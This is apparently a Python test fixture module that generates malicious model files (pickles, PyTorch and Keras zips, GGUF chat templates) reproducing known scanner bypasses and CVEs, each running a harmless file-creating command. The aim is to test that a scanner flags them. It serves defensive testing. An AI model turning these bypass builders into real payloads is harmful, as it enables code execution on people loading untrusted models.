"""Builders for known scanner bypasses (picklescan, modelscan, fickling), generated in code.

Every payload is assembled opcode by opcode here (no peer fixtures, no pickling of live
exploit objects). A payload that names a sentinel path would create that file if it were
ever unpickled/loaded; the tests assert airlock flags it and that the file never appears.
"""

from __future__ import annotations

import json
import marshal
import pickle
import shlex
import struct
import zipfile
import zlib
from pathlib import Path

PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"
STOP = b"."
MARK = b"("
TUPLE = b"t"
REDUCE = b"R"
EMPTY_DICT = b"}"
EMPTY_TUPLE = b")"
NONE = b"N"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
TORCH_MAGIC = 0x1950A86A20F9469CFC6C


# --- opcode assembler ----------------------------------------------------------------------
def u(s: str) -> bytes:
    """A str constant: SHORT_BINUNICODE, or BINUNICODE when long."""
    b = s.encode()
    if len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b
    return b"X" + struct.pack("<I", len(b)) + b


def by(b: bytes) -> bytes:
    """A bytes constant (SHORT_BINBYTES / BINBYTES)."""
    if len(b) < 256:
        return b"C" + bytes([len(b)]) + b
    return b"B" + struct.pack("<I", len(b)) + b


def i1(n: int) -> bytes:
    return b"K" + bytes([n])


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL of two string constants (protocol 4 import)."""
    return u(module) + u(name) + STACK_GLOBAL


def tg(module: str, name: str) -> bytes:
    """Text GLOBAL (protocol 0-3 import)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(fn: bytes, *args: bytes) -> bytes:
    """``fn(*args)`` with MARK ... TUPLE REDUCE."""
    return fn + MARK + b"".join(args) + TUPLE + REDUCE


def lst(*items: bytes) -> bytes:
    return b"]" + MARK + b"".join(items) + b"e" if items else b"]"


def dct(**items: bytes) -> bytes:
    body = b"".join(u(k) + v for k, v in items.items())
    return EMPTY_DICT + MARK + body + b"u" if items else EMPTY_DICT


def pk(*parts: bytes, proto: bytes = PROTO4) -> bytes:
    """A whole pickle: header, body, STOP."""
    return proto + b"".join(parts) + STOP


# --- what a payload would do ------------------------------------------------------------
def py_code(sentinel: Path) -> str:
    """A Python expression that creates ``sentinel`` (valid for both eval and exec)."""
    return f"open({str(sentinel)!r}, 'w').close()"


def sh_cmd(sentinel: Path) -> str:
    return f"touch {shlex.quote(str(sentinel))}"


def simple_call(module: str, name: str, *args: bytes) -> bytes:
    return pk(call(sg(module, name), *args))


def method_call(module: str, cls: str, method: str, ctor: bytes, *args: bytes) -> bytes:
    """``module.cls.method(<instance built by ctor>, *args)`` via a dotted protocol-4 name."""
    return pk(call(sg(module, f"{cls}.{method}"), ctor, *args))


def marshal_payload(sentinel: Path) -> bytes:
    """types.FunctionType(marshal.loads(code), {})(): code built here, never run."""
    code = marshal.dumps(compile(py_code(sentinel), "<x>", "exec"))
    fn = call(sg("types", "FunctionType"), call(sg("marshal", "loads"), by(code)), EMPTY_DICT)
    return pk(fn + EMPTY_TUPLE + REDUCE)


def memo_confusion(sentinel: Path) -> bytes:
    """picklescan#14: BINPUT and MEMOIZE mixed so a MEMOIZE-only tracker sees safe names."""
    return pk(
        u("torch._utils") + MEMOIZE,  # memo[0] (a MEMOIZE-only model stops here)
        u("_rebuild_tensor_v2") + MEMOIZE,  # memo[1]
        u("os") + b"q\x00",  # BINPUT 0 overwrites memo[0]
        u("posix") + b"q\x00" + u("os") + b"q\x00",  # twice, for good measure
        u("system") + b"q\x01",
        b"000000",  # drop the six strings
        b"h\x00h\x01" + STACK_GLOBAL,
        u(sh_cmd(sentinel)) + b"\x85" + REDUCE,
    )


def text_put_confusion(sentinel: Path) -> bytes:
    """Protocol-0 PUT/GET with a memo key the scanner must read from the argument."""
    return (
        b"Vtorch._utils\np5\n0Vos\np7\n0Vsystem\np8\n0"
        + b"g7\ng8\n\x93(V"
        + sh_cmd(sentinel).encode()
        + b"\ntR."
    )


def build_attr_confusion(sentinel: Path) -> bytes:
    """modelscan#85: BUILD sets attributes on an allowed object, STACK_GLOBAL reads them back."""
    state_a = NONE + MARK + u("a") + u("os") + b"d" + b"\x86"  # (None, {"a": "os"})
    state_b = NONE + MARK + u("b") + u("system") + b"d" + b"\x86"
    return pk(
        tg("numpy", "prod") + state_a + b"b" + state_b + b"b" + b"0",
        tg("numpy", "prod.a") + b"p0\n" + tg("numpy", "prod.b") + b"p1\n" + b"00",
        b"g0\ng1\n" + STACK_GLOBAL,
        u(sh_cmd(sentinel)) + b"\x85" + REDUCE,
    )


def numpy_builtins_dict(sentinel: Path) -> bytes:
    """modelscan#89: builtins.dict.get(numpy.__builtins__, "exec")(code)."""
    getter = call(tg("builtins", "dict.get"), tg("numpy", "__builtins__"), u("exec"))
    return pk(call(getter, u(py_code(sentinel))))


def numpy_sys_modules(sentinel: Path) -> bytes:
    """modelscan#89 second PoC: reach os through a dotted name below an allowed module."""
    return pk(
        tg("numpy", "prod") + NONE + tg("numpy", "core._internal.sys.modules") + b"\x86b0",
        call(tg("numpy", "prod.os.system"), u(sh_cmd(sentinel))),
    )


def computed_module_name(sentinel: Path) -> bytes:
    """modelscan#331: the STACK_GLOBAL module operand is the result of a call, not a constant."""
    module = call(sg("builtins", "str"), u("os"))
    return pk(module + u("system") + STACK_GLOBAL + u(sh_cmd(sentinel)) + b"\x85" + REDUCE)


def string_opcode_operands(sentinel: Path, kind: str) -> bytes:
    """STACK_GLOBAL whose operands use a rarer string opcode than SHORT_BINUNICODE."""

    def s(x: str) -> bytes:
        b = x.encode()
        return {
            "SHORT_BINSTRING": b"U" + bytes([len(b)]) + b,
            "BINSTRING": b"T" + struct.pack("<I", len(b)) + b,
            "BINUNICODE": b"X" + struct.pack("<I", len(b)) + b,
            "BINUNICODE8": b"\x8d" + struct.pack("<Q", len(b)) + b,
            "STRING": b"S'" + b + b"'\n",
            "UNICODE": b"V" + b + b"\n",
        }[kind]

    return pk(s("os") + s("system") + STACK_GLOBAL + s(sh_cmd(sentinel)) + b"\x85" + REDUCE)


def inst_opcode(sentinel: Path) -> bytes:
    """picklescan#13: INST imports and calls in one opcode."""
    return b"(V" + py_code(sentinel).encode() + b"\nibuiltins\nexec\n."


def obj_opcode(sentinel: Path) -> bytes:
    """OBJ: MARK, class, args, OBJ (fickling#108 used it with pty.spawn)."""
    return b"(" + tg("builtins", "exec") + b"V" + py_code(sentinel).encode() + b"\no."


def pty_spawn(sentinel: Path) -> bytes:
    argv = b"(lp0\nVsh\naV-c\naV" + sh_cmd(sentinel).encode() + b"\na"
    return b"(" + tg("pty", "spawn") + argv + b"o."


def broken_stream(sentinel: Path) -> bytes:
    """nullifAI: the payload runs, then an invalid opcode breaks the stream (no STOP)."""
    return PROTO2 + call(tg("os", "system"), u(sh_cmd(sentinel))) + b"\xff\xfe garbage"


def nested_loads(sentinel: Path, loader: tuple[str, str]) -> bytes:
    """modelscan#267: a loader called on a bytes constant that is itself a malicious pickle."""
    inner = simple_call("posix", "system", u(sh_cmd(sentinel)))
    return pk(call(sg(*loader), by(inner)))


def hidden_inner_pickle(sentinel: Path) -> bytes:
    """A dangerous pickle inside a bytes constant handed to a harmless-looking container."""
    inner = simple_call("subprocess", "check_call", lst(u("sh"), u("-c"), u(sh_cmd(sentinel))))
    return pk(call(sg("collections", "OrderedDict"), lst(MARK + u("blob") + by(inner) + TUPLE)))


def benign_then_malicious(sentinel: Path) -> bytes:
    """A clean first pickle, then a second one (loaders reading several objects run both)."""
    return pickle.dumps({"ok": 1}, protocol=2) + pk(
        call(tg("os", "system"), u(sh_cmd(sentinel))), proto=PROTO2
    )


def headerless_stack_global(sentinel: Path) -> bytes:
    """Protocol-4 opcodes without a PROTO header: every unpickler accepts the stream."""
    return sg("posix", "system") + u(sh_cmd(sentinel)) + b"\x85" + REDUCE + STOP


def framed_headerless(sentinel: Path) -> bytes:
    """A FRAME opcode first, no PROTO: the C unpickler honours it."""
    body = sg("posix", "system") + u(sh_cmd(sentinel)) + b"\x85" + REDUCE + STOP
    return b"\x95" + struct.pack("<Q", len(body)) + body


def proto_above_5(sentinel: Path) -> bytes:
    return b"\x80\x06" + call(tg("os", "system"), u(sh_cmd(sentinel))) + STOP


def legacy_torch(sentinel: Path, slot: int) -> bytes:
    """Legacy torch.save layout: magic, protocol, sys_info, object, storage keys pickles."""
    parts = [
        pickle.dumps(TORCH_MAGIC, protocol=2),
        pickle.dumps(1001, protocol=2),
        pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
        pickle.dumps({"w": 1}, protocol=2),
        pickle.dumps([], protocol=2),
    ]
    parts[slot] = pk(call(tg("posix", "system"), u(sh_cmd(sentinel))), proto=PROTO2)
    return b"".join(parts)


# --- zip containers ------------------------------------------------------------------------
def zip_bytes(members: dict[str, bytes], *, deflate: bool = False) -> bytes:
    import io

    out = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


def zip_duplicate(clean: bytes, evil: bytes) -> bytes:
    """Two members named data.pkl: scanners that read one name see the clean copy."""
    import io
    import warnings

    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w") as z:
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
        z.writestr("archive/data.pkl", clean)
        z.writestr("archive/data.pkl", evil)
    return out.getvalue()


def torch_zip(data_pkl: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    members = {"archive/data.pkl": data_pkl, "archive/version": b"3\n"}
    members.update(extra or {})
    return zip_bytes(members)


def _patch_all(data: bytes, sig: bytes, field: int, fmt: str, fn: object) -> bytes:
    """Rewrite one field of every local (PK\\3\\4) or central (PK\\1\\2) header."""
    buf = bytearray(data)
    pos = buf.find(sig)
    while pos >= 0:
        (old,) = struct.unpack_from(fmt, buf, pos + field)
        struct.pack_into(fmt, buf, pos + field, fn(old))  # type: ignore[operator]
        pos = buf.find(sig, pos + 4)
    return bytes(buf)


def zip_bad_crc(data: bytes) -> bytes:
    """GHSA-7q5r-7gvp-wc82: CRCs wrong in both headers; zipfile refuses, miniz does not."""
    data = _patch_all(data, b"PK\x03\x04", 14, "<I", lambda c: c ^ 0xDEADBEEF)
    return _patch_all(data, b"PK\x01\x02", 16, "<I", lambda c: c ^ 0xDEADBEEF)


def zip_flag_bits(data: bytes, bits: int) -> bytes:
    """GHSA-w8jq-xcqf-f792: general-purpose flag bits that make zipfile raise."""
    data = _patch_all(data, b"PK\x03\x04", 6, "<H", lambda f: f | bits)
    return _patch_all(data, b"PK\x01\x02", 8, "<H", lambda f: f | bits)


def zip_local_name(data: bytes, old: bytes, new: bytes) -> bytes:
    """Rename a member in its local header only (same length): local/central mismatch."""
    assert len(old) == len(new)
    i = data.find(b"PK\x03\x04")
    j = data.find(old, i)
    return data[:j] + new + data[j + len(old) :]


def zip_corrupt_first(payload_pkl: bytes) -> bytes:
    """modelscan#354: a broken member listed before data.pkl aborts a fail-open iterator."""
    raw = zip_bytes({"archive/aaa": b"x" * 64, "archive/data.pkl": payload_pkl})
    # unsupported compression method (99 = AES) on the first member only
    buf = bytearray(raw)
    struct.pack_into("<H", buf, 8, 99)
    c = buf.find(b"PK\x01\x02")
    struct.pack_into("<H", buf, c + 10, 99)
    return bytes(buf)


def polyglot_pickle_zip(payload_pkl: bytes) -> bytes:
    """A pickle first, a clean zip after it: torch.load sees no zip magic and unpickles."""
    return payload_pkl + zip_bytes({"archive/data.pkl": pickle.dumps({}, 2)})


def keras_zip(config: dict[str, object]) -> bytes:
    return zip_bytes(
        {
            "metadata.json": json.dumps({"keras_version": "3.8.0"}).encode(),
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(56),
        }
    )


def keras_model(layer: dict[str, object]) -> dict[str, object]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "seq", "layers": [layer]},
    }


def keras_lambda(sentinel: Path) -> dict[str, object]:
    """CVE-2024-3660: a Lambda layer carrying marshalled bytecode."""
    import base64

    code = marshal.dumps(compile(py_code(sentinel), "<l>", "exec"))
    return keras_model(
        {
            "module": "keras.layers",
            "class_name": "Lambda",
            "config": {
                "name": "l",
                "function": {
                    "class_name": "__lambda__",
                    "config": {"code": base64.b64encode(code).decode()},
                },
            },
        }
    )


def keras_function_ref(module: str, name: str, args: object) -> dict[str, object]:
    """CVE-2025-1550 style: a config object naming an arbitrary module function."""
    return keras_model(
        {
            "module": "keras.layers",
            "class_name": "Dense",
            "config": {
                "name": "d",
                "units": 1,
                "kernel_initializer": {
                    "module": module,
                    "class_name": "function",
                    "config": name,
                    "registered_name": "function",
                    "build_config": args,
                },
            },
        }
    )


# --- GGUF ----------------------------------------------------------------------------------
def gguf_with_template(template: str) -> bytes:
    """A minimal GGUF v3 file: two metadata strings and no tensors."""

    def s(text: str) -> bytes:
        b = text.encode()
        return struct.pack("<Q", len(b)) + b

    kvs = [("general.architecture", "llama"), ("tokenizer.chat_template", template)]
    body = b"".join(s(k) + struct.pack("<I", 8) + s(v) for k, v in kvs)
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kvs)) + body
    return out + b"\0" * (-len(out) % 32)


def ssti_template(sentinel: Path) -> str:
    """CVE-2024-34359 (llama-cpp-python): a chat template that escapes the Jinja sandbox."""
    return (
        "{% for c in ''.__class__.__mro__[1].__subclasses__() %}"
        "{% if c.__name__ == 'catch_warnings' %}"
        "{{ c()._module.__builtins__['__import__']('os').system('"
        + sh_cmd(sentinel).replace("'", "\\'")
        + "') }}{% endif %}{% endfor %}"
        "{% for m in messages %}{{ m['content'] }}{% endfor %}"
    )


def crc(data: bytes) -> int:
    return zlib.crc32(data)
